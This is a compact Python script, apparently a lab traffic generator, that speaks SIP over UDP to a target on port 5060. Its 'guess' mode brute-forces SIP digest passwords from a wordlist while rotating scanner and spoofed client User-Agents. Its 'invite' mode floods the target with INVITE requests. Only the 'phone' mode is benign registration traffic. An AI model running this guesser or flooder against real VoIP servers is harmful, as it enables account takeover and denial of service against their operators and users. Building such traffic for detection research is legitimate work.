#!/usr/bin/python3
"""A SIP phone, a guesser and a flooder, over UDP.
usage: sip.py phone|guess|invite HOST USER WORDS_OR_PASSWORD SECONDS COUNT"""
import hashlib, random, re, socket, sys, time

mode, host, user, words, gap, count = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5]), int(sys.argv[6])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
s.connect((host, 5060))
me = s.getsockname()


def ask(method, seq, call, extra="", wait=True):
    to = user if method == "REGISTER" else str(random.randrange(100, 999))
    s.send(("%s sip:%s SIP/2.0\r\nVia: SIP/2.0/UDP %s:%d;branch=z9hG4bK%d\r\nFrom: <sip:%s@%s>;tag=%d\r\nTo: <sip:%s@%s>\r\nCall-ID: %s\r\nCSeq: %d %s\r\n"
            "Contact: <sip:%s@%s:%d>\r\nMax-Forwards: 70\r\nUser-Agent: %s\r\n%sContent-Length: 0\r\n\r\n" %
            (method, host, *me, random.getrandbits(40), user, host, random.getrandbits(30), to, host, call, seq, method, user, *me,
             "friendly-scanner" if mode == "guess" and count % 2 else "Linphone/5.2", extra)).encode())
    try:
        return s.recv(2000).decode() if wait else ""
    except socket.timeout:
        return ""


def register(password):
    call = "%x@%s" % (random.getrandbits(60), me[0])
    m = re.search(r'nonce="(\w+)"', ask("REGISTER", 1, call))
    if not m:
        return False
    h = lambda *p: hashlib.md5(":".join(p).encode()).hexdigest()
    r = h(h(user, "lab", password), m[1], h("REGISTER", "sip:" + host))
    return "200 OK" in ask("REGISTER", 2, call, 'Authorization: Digest username="%s",realm="lab",nonce="%s",uri="sip:%s",response="%s"\r\n' % (user, m[1], host, r))


if mode == "phone":
    for _ in range(count):
        register(words)
        time.sleep(gap)
elif mode == "guess":
    for w in open(words).read().split()[:count]:
        if register(w):
            break
        time.sleep(gap)
else:
    for i in range(count):
        ask("INVITE", 1, "%x" % random.getrandbits(60), wait=False)
        time.sleep(gap)
